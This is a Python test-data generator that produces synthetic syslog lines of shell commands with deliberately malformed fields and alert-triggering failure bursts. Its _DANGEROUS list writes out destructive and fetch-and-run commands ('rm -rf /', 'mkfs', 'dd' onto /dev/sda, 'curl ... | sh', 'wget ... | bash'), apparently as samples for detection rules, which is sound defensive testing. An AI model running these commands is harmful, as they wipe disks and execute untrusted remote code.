"""Syslog lines of shell commands, as a collector of several relays gets them.

They begin five minutes before a new year: RFC 3164's times have no year. Rows
come out of order by less than five seconds, and some right at a minute's turn.
"""

from __future__ import annotations

from collections.abc import Sequence
from datetime import date, datetime, timedelta
from typing import TYPE_CHECKING, NamedTuple

from generators import hostile as hostiles
from streamgauge import draws
from streamgauge.locales import localised
from streamgauge.values.columns import Chosen, Columns, Joined, Mixed, Part, Pool, pick, piled
from streamgauge.values.kinds import Blobs, Moments, days, microseconds
from streamgauge.vectors import below, chance, indices, lower, pile, places, taken, words

if TYPE_CHECKING:
    from streamgauge.vectors import Flags, Ints, Words

_STREAM = 8
_STEP_MS = 900
_MOST_MS = 4999
_DELAY_MS = 4000
_LAG_MS = 3000
_SECOND_MS = 1000
_MINUTE_MS = 60_000
_DAY_SECONDS = 86_400
_DAY_MS = _DAY_SECONDS * _SECOND_MS
# After so many rows, half a year of them, time begins anew.
_ROUND = 2**24
# In lines.
_THREE_MINUTES = 3 * _MINUTE_MS // _STEP_MS
_JUST_ALARMING = 5
_MS = 1000
_EPOCH = microseconds(datetime(2020, 12, 31, 23, 55))  # noqa: DTZ001 - without a zone in SQL
_MONTHS = (
    "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
)  # fmt: skip

_HOSTS = ("172.25.0.2", "172.25.0.3", "172.25.0.7", "bastion-1", "db01.example.com")
_TOPICS = ("syslog-user", "syslog-user", "syslog-root", "audit[417]")
# The first has almost half of the lines, and with them enough failures for alerts.
_CLIENTS = (
    "10.200.80.1", "10.200.80.1", "10.200.80.1", "10.200.80.1", "10.200.80.2", "10.200.80.2",
    "10.200.80.17", "192.168.3.40", "2001:db8::7",
)  # fmt: skip
_PRIS = (14, 13, 86, 0, 191)
_USERS = ("root", "ada", "deploy", "josé", "李小龍")
_STATUS = (1, 1, 2, 126, 127, *[0] * 9)
_COMMANDS = (
    "vim /etc/my.cnf", "ls -la /tmp", "tail -f /var/log/messages", "rm -rf /tmp/build",
    'echo "it\'s, quoted"', "cat /home/josé/naïve.txt", "grep -c '^$' a.csv | sort",
    "echo 🦑 李小龍", "printf 'a\\tb\\n'", "chmod 644 /etc/hosts",
    "curl -s https://example.com/ | shasum", "sudo su -",
    "dd if=/dev/sda of=disk.img", "cd  /  &&  ls", "mkdir mkfs", "docker ps: all", "x",
)  # fmt: skip
_DANGEROUS = (
    "rm -rf /", "rm -fr /*", "sudo rm -rf / --no-preserve-root",
    "mkfs.ext4 /dev/sdb1", "sudo mkfs /dev/sdc", "chmod 777 /", "sudo chmod -R 777 /",
    "curl -s https://example.com/x.sh | sh", "wget -qO- example.com/x | bash -s",
    "dd if=/dev/zero of=/dev/sda bs=1M",
    # Fits two rules: the first of the table counts.
    "curl example.com/x.sh | sh ; rm -rf /",
)  # fmt: skip
# One past the last that there is, most of all.
_NO_PRI = ("", "14>", "<>", "<192>", "<192>", "<192>", "<9999>", "< 14>", "<1a>")
_BAD_TIMES = (
    "Okt 28 14:28:06", "Dec 32 23:58:01", "Feb 30 00:00:00", "Dec 31 24:00:00",
    "Dec 31 23:59:60", "Dec 31 23.58.01", "2020-12-31 23:5", "dec 31 23:59:01", "Dec 00 23:59:01",
)  # fmt: skip

# What happens to a line on its way, and in how many of 100: its text is Latin-1, it has no PRI,
# its end is gone, its time is none; a relay was cut off for a day and more; just not too
# old, a day to the millisecond; and nothing to the others.
_LATIN_1, _WITHOUT_PRI, _CUT, _OF_NO_TIME, _HELD_UP, _A_DAY_OLD, _AS_IT_IS = range(7)
_OF_100 = (
    *[_LATIN_1] * 3, *[_WITHOUT_PRI] * 3, *[_CUT] * 4, *[_OF_NO_TIME] * 3, *[_HELD_UP] * 2,
    *[_A_DAY_OLD] * 4, *[_AS_IT_IS] * 81,
)  # fmt: skip

# A stamp is of a day, a minute and a second; or the first is all, and the others are empty.
_DAY_ONE = date(2020, 11, 30)
_FIRST_DAY = days(_DAY_ONE)
_DAYS = 240
_STAMP_DAYS = Pool(
    *(
        f"{_MONTHS[day.month - 1]} {day.day:2} "
        for day in (_DAY_ONE + timedelta(number) for number in range(_DAYS))
    )
)
_STAMP_MINUTES = Pool(*(f"{hour:02}:{minute:02}:" for hour in range(24) for minute in range(60)))
_STAMP_SECONDS = Pool(*(f"{second:02}" for second in range(60)))
_NO_STAMP = Pool(*_BAD_TIMES)

_ANY_PRI, _SPOILED_PRI = Pool(*(f"<{pri}>" for pri in _PRIS)), Pool(*_NO_PRI)
_ANY_HOST = Pool(*_HOSTS)
_ANY_TOPIC = Pool(*_TOPICS)
_ANY_CLIENT = Pool(*_CLIENTS)
_ANY_USER = Pool(*_USERS)
_ANY_STATUS = Pool(*map(str, _STATUS))
_ANY_COMMAND = Pool(*_COMMANDS * 4, *_DANGEROUS)
_ODD_COMMANDS = hostiles.every(hostiles.TEXTS)
_ODD_COMMAND = Pool(*_ODD_COMMANDS)
# With a space they would be two fields.
_ODD_USER = Pool(*(text for text in _ODD_COMMANDS if " " not in text))


class _Draw(NamedTuple):
    """What rows are drawn from: eight columns that know nothing of each other."""

    kind: Words
    how: Words
    time: Words
    client: Words
    user: Words
    status: Words
    command: Words
    host: Words


class _Said(NamedTuple):
    """Texts of lines: from where, who, as whom, and what."""

    client: Chosen
    user: Chosen
    login_user: Chosen
    command: Chosen


def rows(
    seed: int, start: int, stop: int, locale: str | None = None, hostile: int = hostiles.USUAL
) -> Columns:
    """Rows (received, line), for indices start..stop-1.

    `received` has milliseconds and is less than 5 s before the latest so far.
    In each 100 lines there are about 15 that no parser should take. The users are of a locale.
    Of `hostile` in 100 the user is a hostile text, of as many the command, and a line is NULL;
    with it, a client that has no other lines fails as often in a minute as is just alarming.
    """
    users = localised(_ANY_USER, "user_name", locale)
    drawn = words(seed, _STREAM, start, stop)
    # Each word, and its lower half as a word of its own.
    draw = _Draw(*drawn, *(lower(word, 32) for word in drawn))
    odd_user, odd_command, odd_line, *_ = hostiles.draws(seed, start, stop, 3, hostile)
    at = indices(start, stop) % _ROUND
    latest = at * _STEP_MS
    turn = latest - latest % _MINUTE_MS - below(draw.how, 2)
    # A failure of the busiest client, in a minute's first or last millisecond.
    failed = chance(draw.time, 40) & (turn >= 0) & (latest - turn <= _MOST_MS)
    few = _few(at) & bool(hostile)
    kind = pile(taken(_OF_100, below(draw.kind, 100)), (failed | few, _AS_IT_IS))
    received = pile(latest - below(draw.time, _DELAY_MS), (failed, turn))
    received -= (kind == _A_DAY_OLD) * (received % _SECOND_MS)
    busiest, first = pile(draw.client, (failed, 0)), pile(draw.status, (failed | few, 0))
    draw = draw._replace(client=busiest, status=first)
    commands = hostiles.texts(pick(draw.command, _ANY_COMMAND), odd_command, hostile, _ODD_COMMAND)
    said = _Said(
        piled(pick(busiest, _ANY_CLIENT), (few, "10.200.80.5")),
        piled(hostiles.texts(pick(draw.user, users), odd_user, hostile, _ODD_USER), (few, "ada")),
        pick(draw.host, users),
        piled(commands, (few, "sudo su -")),
    )
    times = Moments(_EPOCH + received * _MS)
    there, lines = ~chance(odd_line, hostile) | few, _lines(draw, kind, received, said)
    told = Blobs([lines[at] for at in places(there)])
    return Columns(times, Mixed((there, told)), size=len(kind))


def _few(at: Ints) -> Flags:
    """Five lines of a minute, none near its turn, each three minutes."""
    tens = at % _THREE_MINUTES // 10
    found: Flags = (at % 10 == 0) & (tens > 0) & (tens <= _JUST_ALARMING)
    return found


def _lines(draw: _Draw, kind: Ints, received: Ints, said: _Said) -> Sequence[bytes]:
    """All lines, written in columns; of few kinds each is then changed as a whole."""
    lines = _written(draw, kind, received, said).raw()
    for at in places(kind == _LATIN_1):
        lines[at] = lines[at].decode().encode("latin-1", "replace")
    cut = kind == _CUT
    for at, how in zip(places(cut), draw.how[cut].tolist()):
        lines[at] = _cut(lines[at].decode(), how)
    return lines


def _cut(text: str, how: int) -> bytes:
    """The end is gone, from somewhere between the PRI and the command."""
    pri = text.index(">") + 1
    return text[: pri + draws.below(how, len(text) - pri + 1)].encode()


def _written(draw: _Draw, kind: Ints, received: Ints, said: _Said) -> Joined:
    no_pri = kind == _WITHOUT_PRI, pick(draw.how, _SPOILED_PRI)
    command = piled(
        said.command,
        (kind == _LATIN_1, "cat /home/josé/naïve.txt"),
        (kind == _CUT, ""),
    )
    sender = pick(draw.host, _ANY_HOST), " ", pick(draw.user, _ANY_TOPIC), ": "
    both = said.user, " ", said.login_user, " "
    origin = said.client, " ", *both, pick(draw.status, _ANY_STATUS), " "
    pri = piled(pick(draw.host, _ANY_PRI), no_pri)
    return Joined(pri, *_stamp(draw, kind, received), " ", *sender, *origin, command)


def _stamp(draw: _Draw, kind: Ints, received: Ints) -> Sequence[Part]:
    """When the host says it was: a little before, by a clock of whole seconds."""
    back = pile(
        below(draw.how, _LAG_MS),
        (kind == _HELD_UP, _DAY_MS * (1 + below(draw.how, 3))),
        (kind == _A_DAY_OLD, _DAY_MS),
    )
    second = (_EPOCH // _MS + received - back) // _SECOND_MS
    bad = kind == _OF_NO_TIME
    return (
        piled(
            Chosen(second // _DAY_SECONDS - _FIRST_DAY, _STAMP_DAYS),
            (bad, pick(draw.how, _NO_STAMP)),
        ),
        piled(Chosen(second % _DAY_SECONDS // 60, _STAMP_MINUTES), (bad, "")),
        piled(Chosen(second % 60, _STAMP_SECONDS), (bad, "")),
    )
